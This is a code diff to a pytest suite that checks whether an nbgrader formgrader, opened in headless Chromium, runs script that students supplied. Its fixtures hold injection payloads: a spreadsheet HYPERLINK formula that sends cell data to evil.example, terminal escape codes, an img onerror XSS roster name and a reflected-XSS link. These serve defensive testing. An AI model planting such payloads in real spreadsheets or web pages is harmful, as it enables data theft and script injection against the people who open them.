@@ -12,6 +12,7 @@ import os
 import re
 import subprocess
 import sys
+import urllib.parse
 import zipfile
 from pathlib import Path
 
@@ -24,7 +25,7 @@ from grading.demo import CRASH
 from grading.provided import ASSIGNMENT
 from grading.untrusted_text import for_plot, for_spreadsheet, for_terminal
 
-from browser_support import CHROMIUM, CHROMIUM_ARGS
+from browser_support import CHROMIUM, CHROMIUM_ARGS, LOOPBACK, JupyterLab
 
 NB1, NB2 = NOTEBOOKS
 
@@ -37,7 +38,7 @@ ROSTER = [
     ["id", "first_name", "last_name", "email", "lms_id"],
     ["ada", '=HYPERLINK("http://evil.example/?"&A1,"Ada")', "Lovelace,\nmallory,100", "ada@example.org", "12345"],
     ["grace", f"Grace{ESC}[2K\nmallory  100", '"Hopper"', "@SUM(A1:A9)", "23456"],
-    ["alan", "Alan", "Turing", "", "34567"],
+    ["alan", "Alan<img src=x onerror=\"window.pwned = 'roster name'\">", "<b>Turing</b>", "", "34567"],
 ]
 HONEST = {"ada": 100, "grace": 100, "alan": 0}   # alan hands in the blank release
 
@@ -188,6 +189,53 @@ def test_no_script_a_student_wrote_runs_in_their_feedback_page(graded):
             assert float(score) == float(out_of) > 0, "grace's notebook keeps its full score"
         finally:
             browser.close()
+
+
+def test_no_script_a_student_wrote_runs_in_the_formgrader(graded, tmp_path):
+    """The instructor's formgrader, served by the course's own Jupyter, opened in Chromium: the
+    students' list (a roster name with markup), grace's grading pages (her markdown and outputs of
+    script) and a link a student could send, with script in the assignment's place, run none of
+    it; the names and her notes show as text, her scores as graded."""
+    root, _, _ = graded
+    config = (root / "nbgrader_config.py").read_bytes()
+    if not CHROMIUM.exists():
+        pytest.fail(f"{CHROMIUM} is missing: apt-get install chromium")
+    from playwright.sync_api import sync_playwright
+    lab = JupyterLab(root, tmp_path / "home", tmp_path / "lab.log").start()
+    try:
+        def url(path):
+            return f"http://127.0.0.1:{lab.port}/formgrader/{path}?token={lab.token}"
+
+        with LOOPBACK.open(url(f"api/student_notebook_submissions/grace/{ASSIGNMENT}")) as response:
+            submissions = json.load(response)
+        assert sorted(s["score"] for s in submissions) == [30.0, 70.0]
+        reflected = 'x";window.pwned="reflected link";"'
+        pages = ["manage_students", f"manage_students/grace/{ASSIGNMENT}",
+                 "manage_submissions/" + urllib.parse.quote(reflected),
+                 *(f"submissions/{s['id']}/" for s in submissions)]
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
+            try:
+                page = browser.new_page()
+                dialogs = []
+                page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+                shown = {}
+                for path in pages:
+                    page.goto(url(path))
+                    page.wait_for_load_state("networkidle")
+                    page.wait_for_timeout(300)   # an onerror handler runs once its image has failed
+                    assert page.evaluate("() => window.pwned") is None, path
+                    assert page.url.startswith(f"http://127.0.0.1:{lab.port}/"), f"{path} led to {page.url}"
+                    shown[path] = page.inner_text("body")
+                assert dialogs == []
+            finally:
+                browser.close()
+        assert "<b>Turing</b>, Alan<img src=x" in shown["manage_students"], "the roster name, as text"
+        grading_pages = "".join(shown[p] for p in pages[3:])
+        assert "My notes <script>" in grading_pages and "Gradient Checking, Part 1" in grading_pages
+    finally:
+        lab.stop()
+    assert (root / "nbgrader_config.py").read_bytes() == config
 
 
 @pytest.mark.parametrize("text, shown", [
